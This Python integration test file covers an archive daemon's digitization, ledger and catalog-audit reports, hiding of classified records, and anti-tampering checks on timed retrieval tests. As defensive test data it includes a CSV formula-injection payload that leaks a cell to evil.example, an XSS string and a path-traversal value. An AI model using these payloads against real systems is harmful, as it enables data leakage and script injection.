"""Integration tests of the reports against the real daemon: a catalog and
page scans made by the test with known answers; coverage and ledger as
JSON, CSV (UTF-8 with BOM, GB18030) and HTML; the HTML looked at in
headless Chromium (a screenshot and an A4 PDF kept as test artefacts);
the command-line client's report command; records above the reader's 密级
counted but not described; formula-like cells guarded in CSV; the catalogs
kept for the audit and `indexd catalogs`; the timed retrieval test with
draws and trials timed by the daemon, and the refusals of made-up runs
(finding M10)."""
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from daemon import Daemon, code_path  # noqa: E402

EXE = os.environ.get("INDEXD", "build/indexd/indexd")
QUERY = os.environ.get("QUERY", "build/query/query")
ARTEFACTS = os.environ.get("ARTEFACTS", os.path.join(tempfile.gettempdir(), "fparchive-artefacts"))
CHROMIUM = "/usr/bin/chromium"

# 页数 and the pages the test stores: (档号, 载体, 页数, stored pages)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
HIDDEN_NOTE = "另有 {} 件档案的密级高于您的查阅权限，未列出。"

RECORDS = [
    ("Z099-WS·2017-Y-BGS-0001", "纸质", 3, [1, 2, 3]),    # digitized
    ("Z099-WS·2017-Y-BGS-0002", "纸质", 2, [1]),          # half
    ("Z099-WS·2017-D30-BGS-0003", "", 2, [1, 2]),          # no 载体: paper; digitized
    ("Z099-WS·2017-D10-BGS-0004", "纸质", 1, []),          # 10 years: outside
    ("Z099-ZP·2018-Y-BGS-0005", "电子", 1, []),            # not paper: outside
    ("Z099-KJ·2018-D30-BGS-0006", "纸质", 4, [2, 3]),      # page 1 missing
]


class ReportTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.d = Daemon(EXE).start()
        rows = ["档号,题名,责任者,日期,页数,载体,存放位置"]
        for code, carrier, pages, _ in RECORDS:
            rows.append(f"{code},题名{code[-4:]},县扶贫办,20170301,{pages},{carrier},1号库-02列-1节-1层-{code[-3:]}盒")
        st, body, _ = cls.d.request("POST", "/api/v1/catalog", "\n".join(rows) + "\n", "text/csv")
        assert st == 200 and body["imported"] == len(RECORDS), body
        # another 全宗 that the scoped reports must leave out
        st, body, _ = cls.d.request("POST", "/api/v1/catalog", "档号,题名,责任者,日期,页数\nZ100-WS·2017-Y-BGS-0001,别的全宗,县扶贫办,20170301,1\n", "text/csv")
        assert st == 200, body
        for code, _, _, stored in RECORDS:
            for n in stored:
                st, body, _ = cls.d.request("PUT", f"{code_path(code)}/pages/{n}", "扫描页文字", "text/plain")
                assert st == 201, body
        os.makedirs(ARTEFACTS, exist_ok=True)
        # the timed test: an evaluator, who scores, and an archivist, who practises
        cls.d.add_user("王评估", "evaluator", "evaluator-password-1")
        cls.d.add_user("li", "archivist", "archivist-password-1")
        cls.ev = cls.d.make_token("王评估")
        cls.li = cls.d.make_token("li")

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()

    # ---- the timed test's calls ----

    def call(self, tok, method, path, body=None):
        return self.d.request(method, path, None if body is None else json.dumps(body),
                              None if body is None else "application/json", token=tok)

    def draw(self, tok, **params):
        st, body, _ = self.call(tok, "GET", "/api/v1/timed-tests/draw?" + urllib.parse.urlencode(params))
        self.assertEqual(st, 200, body)
        return body

    def trial(self, tok, draw, n, verb, kind, found=None):
        body = {"kind": kind} if found is None else {"kind": kind, "found": found}
        return self.call(tok, "POST", f"/api/v1/timed-tests/{draw}/trials/{n}/{verb}", body)

    def timed(self, tok, draw, n, kind, found=True, wait=0.0):
        """A trial timed by the daemon: start, wait, stop; the stop's answer."""
        st, body, _ = self.trial(tok, draw, n, "start", kind)
        self.assertEqual(st, 200, body)
        time.sleep(wait)
        st, body, _ = self.trial(tok, draw, n, "stop", kind, found)
        self.assertEqual(st, 200, body)
        return body

    def run_of(self, tok, body):
        return self.call(tok, "POST", "/api/v1/timed-tests", body)

    def report(self, name, **params):
        params.setdefault("fonds", "Z099")
        return self.d.request("GET", f"/api/v1/reports/{name}?" + urllib.parse.urlencode(params), raw="format" in params)

    def test_coverage_json(self):
        st, r, _ = self.report("coverage")
        self.assertEqual(st, 200, r)
        self.assertEqual((r["total"], r["digitized"], r["rate"], r["points"]), (4, 2, 0.5, 1.667))
        self.assertEqual(r["rule"], "范围：保管期限为永久、30年的纸质档案；每页均已扫描并挂接的为已数字化；"
                                    "得分 = 2 × min(数字化率 / 60%, 1)")
        self.assertEqual(r["pages"], {"total": 11, "scanned": 6, "rate": 0.5455})
        self.assertEqual(r["excluded"], {"d10": 1, "not_paper": 1})
        self.assertEqual(r["carrier_unknown"], 1)
        self.assertEqual([(g["key"], g["total"], g["digitized"]) for g in r["by_category"]], [("KJ", 1, 0), ("WS", 3, 2)])
        self.assertEqual([(g["key"], g["rate"]) for g in r["by_year"]], [("2017", 0.6667), ("2018", 0.0)])
        self.assertEqual([(m["code"], m["scanned"], m["location"]) for m in r["missing"]],
                         [("Z099-KJ·2018-D30-BGS-0006", 0, "1号库-02列-1节-1层-006盒"),
                          ("Z099-WS·2017-Y-BGS-0002", 1, "1号库-02列-1节-1层-002盒")])
        # all 全宗: the other one counts too
        st, r, _ = self.report("coverage", fonds="")
        by = {g["key"]: (g["total"], g["digitized"]) for g in r["by_fonds"]}
        self.assertEqual((by["Z099"], by["Z100"]), ((4, 2), (1, 0)))
        self.assertEqual(r["total"], sum(t for t, _ in by.values()))
        # paging the list of records still to digitize
        st, r, _ = self.report("coverage", limit=1, offset=1)
        self.assertEqual((r["missing_total"], [m["code"] for m in r["missing"]]), (2, ["Z099-WS·2017-Y-BGS-0002"]))

    def test_ledger_json(self):
        st, r, _ = self.report("ledger")
        self.assertEqual(st, 200, r)
        got = [(x["category"], x["year"], x["retention"], x["items"], x["pages"], x["digitized_items"], x["scanned_pages"])
               for x in r["rows"]]
        self.assertEqual(got, [("KJ", 2018, "D30", 1, 4, 0, 0), ("WS", 2017, "D10", 1, 1, 0, 0),
                               ("WS", 2017, "D30", 1, 2, 1, 2), ("WS", 2017, "Y", 2, 5, 1, 4),
                               ("ZP", 2018, "Y", 1, 1, 0, 0)])
        self.assertEqual(r["totals"], {"items": 6, "pages": 13, "digitized_items": 2, "scanned_pages": 6})

    def test_csv(self):
        st, raw, hdr = self.report("coverage", format="csv")
        self.assertEqual(st, 200)
        self.assertEqual(hdr["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment", hdr["Content-Disposition"])
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"))
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        self.assertEqual(rows[0][:5], ["范围", "分组", "应数字化件数", "已数字化件数", "数字化率"])
        self.assertEqual(rows[1], ["合计", "", "4", "2", "50.00%", "11", "6"])
        self.assertIn(["Z099-WS·2017-Y-BGS-0002", "题名0002", "1号库-02列-1节-1层-002盒", "2", "1"], rows)
        st, raw, hdr = self.report("ledger", format="csv", encoding="gb18030")
        self.assertEqual(hdr["Content-Type"], "text/csv; charset=gb18030")
        rows = list(csv.reader(io.StringIO(raw.decode("gb18030"))))
        self.assertEqual(rows[0][0], "全宗号")
        self.assertEqual(rows[-1], ["合计", "", "", "", "6", "13", "2", "6"])

    def test_html_in_chromium(self):
        st, raw, hdr = self.report("coverage", format="html")
        self.assertEqual(st, 200)
        self.assertEqual(hdr["Content-Type"], "text/html; charset=utf-8")
        html = raw.decode("utf-8")
        self.assertIn("<svg", html)
        self.assertIn("50.00%", html)
        # no external resources: it must work on a closed network
        self.assertEqual(re.findall(r'(?:src|href)="(?:https?:)?//', html), [])
        # every report's page: a delivery's account for the acceptance report
        account = {"folder": "/media/d", "scans": {"files": 3, "pages": 5},
                   "problems": {"low_dpi": [{"code": "Z099-WS·2017-Y-BGS-0002", "file": "a.jpg", "file_page": 1, "dpi": 150,
                                              "skew": 0.2, "confidence": 80}], "blank_pages": []}}
        st, body, _ = self.d.request("PUT", "/api/v1/deliveries/" + urllib.parse.quote("批次1"), json.dumps(account), "application/json")
        self.assertEqual(st, 200, body)
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        self.timed(self.ev, dr["draw"], 1, "fulltext")
        self.timed(self.ev, dr["draw"], 1, "paper")
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"], "note": "截图"})
        self.assertEqual(st, 201, body)
        pages = {"coverage": raw}
        for name, extra in (("catalog", {}), ("ledger", {}), ("acceptance", {"delivery": "批次1"}), ("timed-tests", {})):
            st, page, hdr = self.report(name, format="html", **extra)
            self.assertEqual((st, hdr["Content-Type"]), (200, "text/html; charset=utf-8"), name)
            if name == "catalog":  # a regular catalog: nothing to chart
                self.assertIn("不规范 0 处", page.decode())
            else:
                self.assertIn(b"<svg", page, name)
            self.assertEqual(re.findall(rb'(?:src|href)="(?:https?:)?//', page), [], name)
            pages[name] = page
        if not os.access(CHROMIUM, os.X_OK):
            self.skipTest("no chromium")
        profile = tempfile.mkdtemp(prefix="chromium-")
        common = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  f"--user-data-dir={profile}"]
        try:
            for name, page in pages.items():
                path = os.path.join(ARTEFACTS, name + ".html")
                with open(path, "wb") as f:
                    f.write(page)
                png = os.path.join(ARTEFACTS, name + ".png")
                subprocess.run(common + ["--window-size=900,1200", f"--screenshot={png}", "file://" + path],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
                with open(png, "rb") as f:
                    self.assertEqual(f.read(8), b"\x89PNG\r\n\x1a\n", name)
                print(f"screenshot: {png}")
            pdf = os.path.join(ARTEFACTS, "coverage.pdf")
            subprocess.run(common + ["--no-pdf-header-footer", f"--print-to-pdf={pdf}",
                                     "file://" + os.path.join(ARTEFACTS, "coverage.html")],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
        finally:
            shutil.rmtree(profile, ignore_errors=True)
        with open(pdf, "rb") as f:
            data = f.read()
        # A4 is 595 x 842 points
        self.assertRegex(data, rb"/MediaBox\s*\[\s*0 0 59[45](?:\.\d+)? 84[12](?:\.\d+)?\s*\]")
        print(f"printed: {pdf}")

    def test_catalog_audit(self):
        audit = ("档号,全宗号,题名,责任者,日期,页数\n"
                 "Z098-WS·2019-Y-BGS-0001,Z098,正常,县扶贫办,20190101,2\n"           # 2
                 "Z098-WS·2019-Y-BGS-0002,Z098,没有责任者,,20190101,2\n"             # 3 mandatory
                 "Z098-WS·2019-Y-BGS-0005,Z098,日期错,县扶贫办,2019-1-1,2\n"         # 4 date; 0003-0004 missing
                 "Z098-WS·2019-Y-BGS-0001,Z098,重复,县扶贫办,20190101,2\n"           # 5 duplicate
                 "Z098-WS·2019-Y-BGS-006,Z098,件号错,县扶贫办,20190101,2\n"          # 6 code
                 "Z098-WS·2019-Y-BGS-0007,Z098,页数为零,县扶贫办,20190101,0\n"       # 7 pages; 0006 missing
                 "Z098-WS·2019-Y-BGS-0008,Z097,全宗不符,县扶贫办,20190101,1\n")      # 8 code_parts
        st, body, _ = self.d.request("POST", "/api/v1/catalog", audit, "text/csv")
        self.assertEqual(st, 200, body)
        st, r, _ = self.report("catalog", fonds="Z098")
        self.assertEqual(st, 200, r)
        self.assertEqual((r["rows"], r["complete"], r["entry_rate"], r["errors"], r["warnings"], r["score"]),
                         (7, 5, 0.7143, 6, 1, 2.37))
        got = [(x["line"], x["rule"], x["key"], x["severity"]) for x in r["irregular"]]
        # line 4: a date as people write it, read as 20190101; line 6: a
        # 件号 without its zero padding, read as 0006 (both irregular)
        self.assertEqual(got, [(3, "mandatory", "author", "error"), (4, "date_form", "date", "error"),
                               (4, "item_gap", "item_no", "warning"), (5, "duplicate", "code", "error"),
                               (6, "code_form", "code", "error"), (7, "pages", "pages", "error"),
                               (8, "code_parts", "fonds", "error")])
        self.assertEqual(r["irregular"][2]["reason"], "Z098-WS·2019-Y-BGS 缺件号 0003-0004（断号）")
        self.assertEqual(r["irregular"][3]["reason"], "档号 Z098-WS·2019-Y-BGS-0001 与第 2 行重复（重号）")
        self.assertEqual(r["irregular"][0]["reason"], "缺少责任者（必填项）")
        self.assertTrue(r["rule"].startswith("录入率 = 档号、题名、责任者、日期、页数、保管期限齐全的条目数 / 条目数"), r["rule"])
        for x in r["irregular"]:
            self.assertRegex(x["reason"], "[\u4e00-\u9fff]", x)
            self.assertNotRegex(x["reason"], r"\b(is|must|the|does|not|missing|are)\b", x)
        # the same catalog corrected replaces the rows of the first
        fixed = audit.replace(",,20190101,2", ",县扶贫办,20190101,2").replace("2019-1-1", "20190101")
        st, body, _ = self.d.request("POST", "/api/v1/catalog", fixed, "text/csv")
        st, r, _ = self.report("catalog", fonds="Z098")
        self.assertEqual((r["rows"], r["complete"], r["errors"]), (7, 6, 4))
        # a complete, regular catalog scores 5 of 5 while scanning is under
        # way (0002 has 1 of 2 pages scanned, 0006 2 of 4): item 9 judges
        # the catalog, scanning is item 22's
        st, r, _ = self.report("catalog")
        self.assertEqual(r["irregular"], [])
        self.assertEqual((r["entry_rate"], r["score"]), (1.0, 5.0))
        st, raw, hdr = self.report("catalog", fonds="Z099", format="csv")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        self.assertIn(["得分（满分5分）", "5.00"], rows)
        self.assertNotIn("页数与扫描页数不符", raw.decode("utf-8-sig"))

    def test_csv_formulas_guarded(self):
        quoted = FORMULA.replace('"', '""')
        cat = f'档号,题名,责任者,日期,页数,载体\nZ097-WS·2019-Y-BGS-0001,"{quoted}",县扶贫办,20190101,2,纸质\n'
        st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
        self.assertEqual((st, body["imported"]), (200, 1), body)
        for enc, codec in (("utf-8", "utf-8-sig"), ("gb18030", "gb18030")):
            st, raw, _ = self.report("coverage", fonds="Z097", format="csv", encoding=enc)
            rows = list(csv.reader(io.StringIO(raw.decode(codec))))
            self.assertIn(["Z097-WS·2019-Y-BGS-0001", "'" + FORMULA, "", "2", "0"], rows)
        # a purpose of use, in the register's CSV
        code = RECORDS[0][0]
        st, body, _ = self.d.request("GET", f"{code_path(code)}/pages/1?purpose=" + urllib.parse.quote(FORMULA))
        self.assertEqual(st, 200, body)
        st, raw, _ = self.d.request("GET", "/api/v1/register?format=csv", raw=True)
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        mine = [r for r in rows if r[4] == code and r[8].endswith(FORMULA)]
        self.assertTrue(mine, rows[-3:])
        self.assertEqual(mine[-1][8], "'" + FORMULA)
        self.assertNotIn(FORMULA, [c for r in rows for c in r])

    def test_hidden_records_in_reports(self):
        """A reader without clearance: counted in every figure, never listed by 档号."""
        self.d.add_user("gong", "archivist", "gong-pass-12")
        tok = self.d.make_token("gong")
        secret, public = "Z096-WS·2019-Y-BGS-0001", "Z096-WS·2019-Y-BGS-0002"
        cat = ("档号,题名,责任者,日期,页数,载体,存放位置,密级\n"
               f"{secret},青龙计划,,20190101,2,纸质,9号库-机要柜,机密\n"       # line 2: 责任者 missing
               f"{public},公开件,县扶贫办,20190101,1,纸质,1号库,\n"
               f"{public},公开件重复,县扶贫办,20190101,1,纸质,1号库,\n")     # line 4: duplicate
        st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
        self.assertEqual(st, 200, body)

        def as_gong(name, **params):
            params.setdefault("fonds", "Z096")
            return self.d.request("GET", f"/api/v1/reports/{name}?" + urllib.parse.urlencode(params),
                                  raw="format" in params, token=tok)
        st, mine, _ = as_gong("coverage")
        st, full, _ = self.report("coverage", fonds="Z096")
        for key in ("total", "digitized", "rate", "points", "pages", "by_fonds"):
            self.assertEqual(mine[key], full[key], key)
        self.assertEqual(mine["total"], 2)
        self.assertEqual([m["code"] for m in mine["missing"]], [public])
        self.assertEqual((mine["missing_total"], mine["missing_hidden"]), (1, 1))
        self.assertEqual((full["missing_total"], full["missing_hidden"]), (2, 0))
        self.assertTrue(all("classification" not in m for m in full["missing"]))
        for fmt in ("csv", "html"):
            st, raw, _ = as_gong("coverage", format=fmt)
            text = raw.decode("utf-8-sig")
            self.assertIn(HIDDEN_NOTE.format(1), text)
            for word in (secret, "青龙", "机要柜", "机密"):
                self.assertNotIn(word, text)
            st, raw, _ = self.report("coverage", fonds="Z096", format=fmt)
            self.assertNotIn("另有", raw.decode("utf-8-sig"))
        # the catalog audit: every deduction still there, by file and line
        st, mine, _ = as_gong("catalog")
        st, full, _ = self.report("catalog", fonds="Z096")
        for key in ("rows", "complete", "errors", "warnings", "score", "irregular_total"):
            self.assertEqual(mine[key], full[key], key)
        self.assertEqual([(x["line"], x["rule"]) for x in mine["irregular"]],
                         [(x["line"], x["rule"]) for x in full["irregular"]])
        by_line = {x["line"]: x for x in mine["irregular"]}
        self.assertEqual((by_line[2]["code"], by_line[2]["reason"], by_line[2]["key"]), ("", "（密级档案，不显示）", "author"))
        self.assertEqual((by_line[4]["code"], by_line[4]["rule"]), (public, "duplicate"))
        self.assertEqual({x["line"]: x["code"] for x in full["irregular"]}[2], secret)
        st, raw, _ = as_gong("catalog", format="csv")
        self.assertNotIn(secret, raw.decode("utf-8-sig"))
        env = dict(os.environ, INDEXD_URL=self.d.base, INDEXD_TOKEN=tok)
        r = subprocess.run([QUERY, "report", "coverage", "--fonds", "Z096"], capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("待数字化：2 件\n", r.stdout)
        self.assertIn("（另有 1 件档案的密级高于您的查阅权限，未列出）", r.stdout)
        self.assertNotIn(secret, r.stdout)

    def test_acceptance_folder_for_vendors(self):
        account = {"folder": "/srv/交付/2019批/scans/", "scans": {"files": 1, "pages": 1}, "problems": {}}
        st, body, _ = self.d.request("PUT", "/api/v1/deliveries/folder-test", json.dumps(account), "application/json")
        self.assertEqual(st, 200, body)
        self.d.add_user("ven9", "vendor", "ven9-pass-12")
        tok = self.d.make_token("ven9")
        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance?delivery=folder-test", token=tok)
        self.assertEqual((st, r["folder"]), (200, "scans"))
        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance", token=tok)
        self.assertEqual({d["name"]: d["folder"] for d in r["deliveries"]}["folder-test"], "scans")
        self.assertNotIn("/srv/", json.dumps(r, ensure_ascii=False))
        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance?delivery=folder-test")
        self.assertEqual(r["folder"], "/srv/交付/2019批/scans/")

    def test_timed_test_auto(self):
        env = dict(os.environ, INDEXD_URL=self.d.base, INDEXD_TOKEN=self.ev)
        r = subprocess.run([QUERY, "timed-test", "--auto", "--codes", "Z099-WS·2017-Y-BGS-0001,Z099-WS·2017-D30-BGS-0003",
                            "--evaluator", "评估组"], capture_output=True, text=True, env=env, stdin=subprocess.DEVNULL)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertEqual(r.stdout.count("：已检出，用时 "), 2, r.stdout)
        # full-text trials only: no file was fetched, so the run cannot score
        self.assertIn("全部通过——测试不完整", r.stdout)
        st, rep, _ = self.d.request("GET", "/api/v1/reports/timed-tests")
        run = [x for x in rep["runs"] if x.get("note") == "评估组"][-1]
        # the evaluator is the token's user; --evaluator is only a note
        self.assertEqual((run["evaluator"], run["role"], run["mode"]), ("王评估", "evaluator", "incomplete"))
        self.assertEqual([(t["code"], t["kind"], t["passed"], t["timed_by"], t["search_found"]) for t in run["trials"]],
                         [("Z099-WS·2017-Y-BGS-0001", "fulltext", True, "indexd", True),
                          ("Z099-WS·2017-D30-BGS-0003", "fulltext", True, "indexd", True)])
        self.assertEqual((run["passed"], run["points"]), (True, 0))
        self.assertLessEqual(run["server"]["trial_seconds"], run["server"]["elapsed_seconds"])
        self.assertEqual(run["server"]["timed_by_indexd"], 2)

    def test_timed_test_interactive(self):
        """In a pseudo-terminal: the drawn phrase, the location in large type, a clock, Enter; an archivist's practice."""
        import pty
        import select
        env = dict(os.environ, INDEXD_URL=self.d.base, TERM="xterm", INDEXD_TOKEN=self.li)
        pid, fd = pty.fork()
        if pid == 0:
            os.execve(QUERY, [QUERY, "timed-test", "--codes", "Z099-WS·2017-Y-BGS-0002", "--evaluator", "终端测试"], env)
        out = b""

        def read_until(token, timeout=30):
            nonlocal out
            end = time.time() + timeout
            while token.encode() not in out and time.time() < end:
                r, _, _ = select.select([fd], [], [], 0.2)
                if r:
                    try:
                        out += os.read(fd, 4096)
                    except OSError:
                        break
            self.assertIn(token.encode(), out, out.decode("utf-8", "replace"))

        read_until("按回车键开始计时并检索")
        os.write(fd, b"\r")
        read_until("取到档案后按回车键")
        time.sleep(1.5)
        os.write(fd, b"\r")
        read_until("已由 indexd 保存")
        os.waitpid(pid, 0)
        text = out.decode("utf-8", "replace")
        self.assertRegex(text, r'全文检索“[扫描页文字]{4,5}”：已检出')
        self.assertIn("\x1b#3  存放位置：1号库-02列-1节-1层-002盒", text)  # double height and width
        self.assertIn("用时 00:01", text)
        self.assertIn("li（档案员）的练习，不计分", text)
        st, rep, _ = self.d.request("GET", "/api/v1/reports/timed-tests")
        run = [x for x in rep["runs"] if x.get("note") == "终端测试"][-1]
        self.assertEqual((run["evaluator"], run["role"], run["mode"], run["points"]), ("li", "archivist", "practice", 0))
        paper = [t for t in run["trials"] if t["kind"] == "paper"][0]
        # timed by the daemon, from the start call to the stop call
        self.assertEqual(paper["timed_by"], "indexd")
        self.assertTrue(1.4 <= paper["seconds"] < 30, paper)
        self.assertTrue(paper["passed"])
        self.assertEqual(paper["location"], "1号库-02列-1节-1层-002盒")

    def test_timed_test_verdicts(self):
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        self.assertEqual((dr["user"], dr["role"], dr["lifetime_seconds"]), ("王评估", "evaluator", 7200))
        self.assertEqual(dr["records"][0]["code"], "Z099-WS·2017-Y-BGS-0001")
        self.assertTrue(self.timed(self.ev, dr["draw"], 1, "fulltext")["passed"])
        stop = self.timed(self.ev, dr["draw"], 1, "paper", found=False)  # the file was not found
        self.assertEqual((stop["found"], stop["passed"]), (False, False))
        for bad in ({"draw": dr["draw"], "trials": [{"code": "Z099-WS·2017-Y-BGS-0001", "kind": "walk", "seconds": 1}]},
                    {"draw": dr["draw"], "trials": [{"code": "Z099-WS·2017-Y-BGS-0001", "kind": "paper", "seconds": -1}]},
                    {"draw": dr["draw"], "trials": "all"}, {"draw": 7}):
            st, body, _ = self.run_of(self.ev, bad)
            self.assertEqual(st, 400, (bad, body))
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"]})
        self.assertEqual(st, 201, body)
        self.assertEqual(([t["passed"] for t in body["trials"]], body["passed"], body["points"]), ([True, False], False, 0))
        # a trial's kind and found are checked before the daemon looks at the draw
        st, body, _ = self.trial(self.ev, dr["draw"], 1, "start", "walk")
        self.assertEqual(st, 400)
        st, body, _ = self.trial(self.ev, dr["draw"], 1, "stop", "paper")
        self.assertEqual((st, body["error"]["field"]), (400, "found"))
        st, body, _ = self.d.request("GET", "/api/v1/timed-tests/draw?codes=" + urllib.parse.quote("Z099-WS·2017-Y-BGS-0999"))
        self.assertEqual(st, 404)
        st, body, _ = self.d.request("GET", "/api/v1/timed-tests/draw?n=500")
        self.assertEqual(st, 400)
        st, body, _ = self.d.request("GET", "/api/v1/timed-tests/draw?codes=" + urllib.parse.quote(
            "Z099-WS·2017-Y-BGS-0001,Z099-WS.2017-Y-BGS-0001"))
        self.assertEqual(st, 400, body)  # one record named twice
        st, body, _ = self.d.request("GET", "/api/v1/timed-tests/draw?n=2&seed=7")
        st2, body2, _ = self.d.request("GET", "/api/v1/timed-tests/draw?n=2&seed=7")
        self.assertEqual(body["records"], body2["records"])  # a seeded draw is reproducible
        self.assertNotEqual(body["draw"], body2["draw"])      # and each one is a draw of its own
        self.assertEqual(len(body["records"]), 2)
        st, raw, hdr = self.d.request("GET", "/api/v1/reports/timed-tests?format=csv", raw=True)
        csv_text = raw.decode("utf-8-sig")
        self.assertRegex(csv_text, r"王评估,评估员,计分,Z099-WS·2017-Y-BGS-0001,纸质调阅,\d+\.\d\d,180,服务器计时,未通过")
        st, raw, hdr = self.d.request("GET", "/api/v1/reports/timed-tests?format=html", raw=True)
        html = raw.decode("utf-8")
        self.assertIn("档案利用时效测试记录", html)
        self.assertIn(dr["draw"], html)
        self.assertIn("王评估（评估员）", html)

    # ---- finding M10: runs that cannot be made up ----

    def test_m10_run_needs_a_draw(self):
        old_style = {"evaluator": "评估组", "trials": [{"code": "Z099-WS·2017-Y-BGS-0001", "kind": "fulltext", "seconds": 0.2,
                                                      "found": True}]}
        st, body, _ = self.run_of(self.ev, old_style)
        self.assertEqual(st, 400, body)  # it was kept with 3 points
        self.assertEqual(body["error"]["field"], "draw")
        for draw in ("20260101T000000Z-0123456789abcdef", "../../users", "x" * 300):
            st, body, _ = self.run_of(self.ev, dict(old_style, draw=draw))
            self.assertEqual(st, 404, body)
            st, body, _ = self.trial(self.ev, urllib.parse.quote(draw, safe=""), 1, "start", "paper")
            self.assertEqual(st, 404, body)

    def test_m10_invented_codes_and_phrases(self):
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        phrase = dr["records"][0]["phrase"]
        for code in ("Z099-WS·2017-D10-BGS-0004", "Z031-WS·2017-Y-BGS-0001", '"><svg onload=alert(1)>'):
            st, body, _ = self.run_of(self.ev, {"draw": dr["draw"], "trials": [
                {"code": code, "kind": "fulltext", "seconds": 0.2, "found": True}]})
            self.assertEqual(st, 409, body)
            self.assertIn("不在抽取", body["error"]["message"])
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"], "trials": [
            {"code": "Z099-WS·2017-Y-BGS-0001", "kind": "fulltext", "seconds": 0.2, "found": True, "phrase": "扫描"}]})
        self.assertEqual(st, 409, body)
        self.assertIn(phrase, body["error"]["message"])
        # the drawn record and phrase: kept
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"], "trials": [
            {"code": "Z099-WS·2017-Y-BGS-0001", "kind": "fulltext", "seconds": 0.2, "found": True, "phrase": phrase}]})
        self.assertEqual(st, 201, body)
        # kept, but a time the client reports never scores: an evaluator
        # could otherwise post 0.1 s for every trial
        self.assertEqual((body["trials"][0]["timed_by"], body["mode"], body["points"]), ("client", "unverified", 0))

    def test_m10_reused_and_foreign_draws(self):
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        run = {"draw": dr["draw"], "trials": [{"code": "Z099-WS·2017-Y-BGS-0001", "kind": "paper", "seconds": 0.5}]}
        st, body, _ = self.run_of(self.li, run)  # an archivist posting on the evaluator's draw
        self.assertEqual(st, 403, body)
        self.assertIn("由其他用户进行", body["error"]["message"])
        st, body, _ = self.trial(self.li, dr["draw"], 1, "start", "paper")
        self.assertEqual(st, 403, body)
        st, body, _ = self.run_of(self.ev, run)
        self.assertEqual(st, 201, body)
        st, body, _ = self.run_of(self.ev, run)  # a second run on the same draw
        self.assertEqual(st, 409, body)
        self.assertIn("已用于测试", body["error"]["message"])
        st, body, _ = self.trial(self.ev, dr["draw"], 1, "start", "fulltext")
        self.assertEqual(st, 409, body)

    def test_m10_more_time_than_elapsed(self):
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001")
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"], "trials": [
            {"code": "Z099-WS·2017-Y-BGS-0001", "kind": "paper", "seconds": 95.5}]})
        self.assertEqual(st, 409, body)
        self.assertIn("但抽取以来只过了", body["error"]["message"])

    def test_m10_daemon_times_the_trials(self):
        dr = self.draw(self.ev, codes="Z099-WS·2017-Y-BGS-0001,Z099-WS·2017-D30-BGS-0003")
        d = dr["draw"]
        stop = self.timed(self.ev, d, 1, "paper", wait=1.1)
        self.assertGreaterEqual(stop["seconds"], 1.0)  # the daemon's clock, not the client's word
        st, body, _ = self.trial(self.ev, d, 1, "start", "paper")  # no second go at a trial
        self.assertEqual(st, 409, body)
        st, body, _ = self.trial(self.ev, d, 2, "stop", "paper", True)  # never started
        self.assertEqual(st, 409, body)
        st, body, _ = self.trial(self.ev, d, 3, "start", "paper")  # the draw has 2 records
        self.assertEqual(st, 404, body)
        self.timed(self.ev, d, 2, "fulltext", found=False)
        # the run says the failed trial passed in 0.1 s: the daemon's timing stands
        st, body, _ = self.run_of(self.ev, {"draw": d, "trials": [
            {"code": "Z099-WS·2017-D30-BGS-0003", "kind": "fulltext", "seconds": 0.1, "found": True}]})
        self.assertEqual(st, 201, body)
        self.assertEqual([(t["n"], t["kind"], t["found"], t["timed_by"]) for t in body["trials"]],
                         [(1, "paper", True, "indexd"), (2, "fulltext", False, "indexd")])
        self.assertEqual((body["passed"], body["points"]), (False, 0))
        self.assertEqual(body["server"]["timed_by_indexd"], 2)

    def test_catalog_audit_pages_are_bounded(self):
        st, body, _ = self.report("catalog", limit="10001")
        self.assertEqual((st, body["error"]["param"]), (400, "limit"))
        self.assertEqual(body["error"]["message"], "目录检查的 limit 须为 1 至 10000 的数字（用 offset 翻页）")
        st, body, _ = self.report("catalog", limit="10000")
        self.assertEqual((st, body["limit"]), (200, 10000))

    def test_m10_only_a_whole_run_scores(self):
        codes = "Z099-WS·2017-Y-BGS-0001,Z099-WS·2017-D30-BGS-0003"
        # every record with both trials, each in time, the search checked: 3 points
        dr = self.draw(self.ev, codes=codes)
        for n in (1, 2):
            stop = self.timed(self.ev, dr["draw"], n, "fulltext")
            self.assertEqual((stop["found"], stop["search_found"], stop["passed"]), (True, True, True))
            self.timed(self.ev, dr["draw"], n, "paper")
        st, body, _ = self.run_of(self.ev, {"draw": dr["draw"]})
        self.assertEqual(st, 201, body)
